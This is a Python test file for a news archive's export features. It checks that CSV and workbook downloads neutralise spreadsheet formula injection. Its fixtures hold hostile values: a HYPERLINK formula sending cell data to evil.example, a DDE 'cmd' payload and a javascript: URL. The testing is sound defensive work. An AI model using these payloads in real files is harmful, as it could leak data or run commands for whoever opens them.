"""Every CSV newsflow writes is safe to open in Excel: a partner's "=HYPERLINK(…)" headline stays text.

`newsflow export`, the reading room's CSV (/-/search.csv, linked from the tag and partner pages) and `newsflow
report` all go through ``report.text_cell``; the reading room's CSV is UTF-8 with a BOM and gives dates as
YYYY-MM-DD, as export and report do. JSON export is a machine format and stays as stored.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from urllib.parse import urlencode

import pytest
from click.testing import CliRunner

from conftest import copy_archive, reading_room_get
from newsflow.cli import cli

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me") HOPE'
AT_TITLE = "@SUM(1+1)*cmd|'/C calc'!A0 -HOPE"
FORMULA_TEXT = "=1+1 is what this paragraph starts with."
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def demo(demo_archive):
    return demo_archive


@pytest.fixture
def hostile(demo_archive, tmp_path):
    """A copy of the demo archive where two HOPE releases carry formulas, as a hostile newsroom could write them."""
    db = copy_archive(demo_archive, tmp_path / "hostile.db")
    with sqlite3.connect(db) as conn:
        first, second = (
            r[0]
            for r in conn.execute(
                "select article_id from article_tags where tag_id = 'hope' order by article_id desc limit 2"
            )
        )
        conn.execute(
            "update articles set title = ?, text = ? || char(10) || text where id = ?",
            [FORMULA_TITLE, FORMULA_TEXT, first],
        )
        conn.execute("update paragraphs set text = ? where article_id = ? and position = 0", [FORMULA_TEXT, first])
        conn.execute("update articles set title = ? where id = ?", [AT_TITLE, second])
    return db


get = reading_room_get


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def test_one_function_for_every_csv_cell():
    from newsflow.report import text_cell

    assert text_cell(FORMULA_TITLE) == "'" + FORMULA_TITLE
    for start in FORMULA_START:
        assert text_cell(start + "x") == "'" + start + "x"
    assert text_cell("Seinäjoki 2021-03-01") == "Seinäjoki 2021-03-01"
    assert text_cell("") == ""


def test_export_csv_keeps_formulas_as_text(hostile, tmp_path):
    out = tmp_path / "export.csv"
    assert CliRunner().invoke(cli, ["export", "--db", str(hostile), "-o", str(out)]).exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert formula_cells(rows) == []
    titles = {r["title"] for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    assert {"'" + FORMULA_TITLE, "'" + AT_TITLE} <= titles
    assert "Healthy Kids of Seinäjoki -malli esiteltiin Mariborissa" in titles  # other cells as they were
    texts = [r["text"] for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))]
    assert any(t.startswith("'" + FORMULA_TEXT) for t in texts)
    # To standard output too (the same writer).
    printed = CliRunner().invoke(cli, ["export", "--db", str(hostile), "--tag", "hope"])
    assert printed.exit_code == 0 and formula_cells(list(csv.reader(io.StringIO(printed.stdout)))) == []


def test_export_as_a_workbook_keeps_text_text_dates_dates_and_links_http(hostile, tmp_path):
    """Probe (s28): `export` wrote only comma-separated files, which an Excel set up for Finnish, Swedish or Slovenian
    opens in one column (the reading room's downloads offer a workbook for that reason)."""
    import openpyxl

    with sqlite3.connect(hostile) as conn:
        conn.execute("update articles set url = 'javascript:alert(1)' where title = ?", [AT_TITLE])
    out = tmp_path / "export.xlsx"
    said = CliRunner().invoke(cli, ["export", "--db", str(hostile), "--format", "xlsx", "-o", str(out)])
    assert said.exit_code == 0 and "Wrote 10 releases to " in said.output, said.output
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c for c in row), strict=False)) for row in ws.iter_rows(min_row=2)]
    assert header[:3] == ["id", "published", "partner"] and len(rows) == 10
    by_title = {r["title"].value: r for r in rows}
    assert by_title[FORMULA_TITLE]["title"].data_type == "s" and by_title[AT_TITLE]["title"].data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula anywhere
    healthy = by_title["Healthy Kids of Seinäjoki -malli esiteltiin Mariborissa"]
    assert healthy["published"].is_date and healthy["published"].value.year == 2021
    assert healthy["url"].hyperlink is not None and healthy["url"].hyperlink.target.startswith("http")
    assert by_title[AT_TITLE]["url"].hyperlink is None and by_title[AT_TITLE]["url"].value == "javascript:alert(1)"
    assert healthy["mixed"].value == 0 and ws.freeze_panes == "A2"


def test_a_text_longer_than_a_spreadsheet_cell_is_cut_with_a_mark_and_whole_in_csv(hostile, tmp_path):
    """Staff probe (s34): an 890,000-character annual report was cut at Excel's 32,767 characters with no mark."""
    import openpyxl

    long = " ".join(f"Section {i}: the regional programme's annual figures." for i in range(20_000))
    with sqlite3.connect(hostile) as conn:
        conn.execute("update articles set text = ? where title = ?", [long, AT_TITLE])
    out = tmp_path / "export.xlsx"
    assert CliRunner().invoke(cli, ["export", "--db", str(hostile), "--format", "xlsx", "-o", str(out)]).exit_code == 0
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=False)) for row in ws.iter_rows(min_row=2)]
    cell = next(r["text"] for r in rows if r["title"] == AT_TITLE)
    assert len(cell) == 32_767 and cell.startswith(long[:1000])
    assert cell.endswith(
        "[cut: a spreadsheet cell holds 32,767 characters; the whole text is in the reading room and the CSV]"
    )
    printed = CliRunner().invoke(cli, ["export", "--db", str(hostile), "--format", "csv"])
    assert long in printed.stdout


def test_a_workbook_piped_to_a_file_is_whole_and_the_command_ends_well(demo, tmp_path):
    """Review: `export --format xlsx > file.xlsx` closed standard output and ended in a traceback, exit 1."""
    import subprocess
    import sys

    import openpyxl

    out = tmp_path / "piped.xlsx"
    with out.open("wb") as stdout:
        done = subprocess.run(
            [sys.executable, "-m", "newsflow", "export", "--db", str(demo), "--format", "xlsx"],
            stdout=stdout,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert openpyxl.load_workbook(out).active.max_row == 11


def test_json_export_stays_as_stored(hostile):
    out = CliRunner().invoke(cli, ["export", "--db", str(hostile), "--format", "json"])
    titles = {r["title"] for r in json.loads(out.stdout)}
    assert {FORMULA_TITLE, AT_TITLE} <= titles


@pytest.mark.parametrize("path", ["/-/search.csv", "/-/search.csv?tag=hope", "/-/search.csv?q=HOPE"])
def test_reading_room_csv_keeps_formulas_as_text(hostile, path):
    answer = get(hostile, path)
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) > 2 and formula_cells(rows) == []
    titles = {r["Headline"] for r in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))}
    assert {"'" + FORMULA_TITLE, "'" + AT_TITLE} <= titles


def test_reading_room_csv_opens_in_excel_as_export_does(demo, tmp_path):
    """A byte-order mark (else Excel shows "SeinÃ¤joki"), and the published date as YYYY-MM-DD ("" when undated)."""
    answer = get(demo, "/-/search.csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert "Date" in rows[0] and any("Seinäjoki" in r["Headline"] for r in rows)
    out = tmp_path / "export.csv"
    assert CliRunner().invoke(cli, ["export", "--db", str(demo), "-o", str(out)]).exit_code == 0
    exported = {r["title"]: r["published"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    assert {r["Headline"]: r["Date"] for r in rows} == exported
    assert all(len(r["Date"]) in (0, 10) for r in rows) and any(r["Date"] == "" for r in rows)
    with sqlite3.connect(demo) as conn:  # the demo has full timestamps: they are cut to the day
        assert conn.execute("select count(*) from articles where length(published) > 10").fetchone()[0] > 0


def test_datasettes_own_csv_keeps_formulas_as_text_and_numbers_as_numbers(hostile):
    """Staff probe: the "CSV" link of Datasette's own articles page (under All tables) kept a partner's
    "=HYPERLINK(…)" headline as a formula, where every CSV newsflow writes itself prefixes it."""
    for path in (
        "/hostile/articles.csv?_col=title&_col=published&_size=max",
        "/hostile/articles.csv?_col=title&_stream=on&_size=2",  # streamed: a chunk per page of rows
        "/hostile.csv?" + urlencode({"sql": "select id, -id as minus, title, '+' || title as plus from articles"}),
    ):
        answer = get(hostile, path)
        assert answer.status_code == 200, (path, answer.text[:200])
        rows = list(csv.reader(io.StringIO(answer.text)))
        formulas = [c for c in formula_cells(rows) if not re.fullmatch(r"-\d+", c)]  # (numbers stay numbers)
        assert formulas == [] and len(rows) == 11, path
        cells = {c for row in rows for c in row}
        assert "'" + FORMULA_TITLE in cells and "'" + AT_TITLE in cells, path
        assert "Healthy Kids of Seinäjoki -malli esiteltiin Mariborissa" in cells  # other cells as they were
    numbers = list(csv.DictReader(io.StringIO(get(hostile, "/hostile.csv?sql=select+-3+as+n,+2.5e-3+as+x").text)))
    assert numbers == [{"n": "-3", "x": "0.0025"}]
    assert get(hostile, "/hostile/articles.csv?_col=title&_dl=1").headers["content-type"].startswith("text/csv")


@pytest.mark.parametrize("size", [1, 7, 64, 400_000])
def test_a_streamed_csv_is_made_safe_however_it_is_cut(size):
    from newsflow.browse import _SafeCsv

    # (A long cell too: a release's text or attachments may be far past csv's own field limit of 131,072.)
    long = "=" + "Seinäjoki " * 13_200
    rows = [["id", "title"], ["1", '=cmd|"a\r\nb"'], ["-2", "Seinäjoki\n+SUM(1)"], ["3", long], ["4", "plain"]]
    source = io.StringIO()
    csv.writer(source, lineterminator="\r\n").writerows(rows)
    data = source.getvalue().encode("utf-8")
    safe = _SafeCsv()
    out = b"".join(safe.feed(data[i : i + size]) for i in range(0, len(data), size)) + safe.feed(b"", final=True)
    assert list(csv.reader(io.StringIO(out.decode("utf-8"), newline=""))) == [
        ["id", "title"],
        ["1", "'" + rows[1][1]],
        ["-2", "Seinäjoki\n+SUM(1)"],
        ["3", "'" + long],
        ["4", "plain"],
    ]


def test_export_writes_the_format_its_file_name_says(hostile, tmp_path):
    # (trans probe, s38: `export -o e.xlsx` wrote CSV text into e.xlsx, which Excel refuses to open)
    runner = CliRunner()
    workbook, data = tmp_path / "e.xlsx", tmp_path / "e.json"
    assert runner.invoke(cli, ["export", "--db", str(hostile), "-o", str(workbook)]).exit_code == 0
    assert workbook.read_bytes()[:2] == b"PK"  # a zip: the workbook
    assert runner.invoke(cli, ["export", "--db", str(hostile), "-o", str(data)]).exit_code == 0
    assert isinstance(json.loads(data.read_text(encoding="utf-8")), list)
    refused = runner.invoke(cli, ["export", "--db", str(hostile), "--format", "csv", "-o", str(tmp_path / "x.xlsx")])
    assert refused.exit_code == 2 and "names an XLSX file, but --format is csv" in refused.output
    assert not (tmp_path / "x.xlsx").exists()
    plain = tmp_path / "e.txt"  # (any other ending: CSV, as before)
    assert runner.invoke(cli, ["export", "--db", str(hostile), "-o", str(plain)]).exit_code == 0
    assert plain.read_text(encoding="utf-8-sig").startswith("id,")
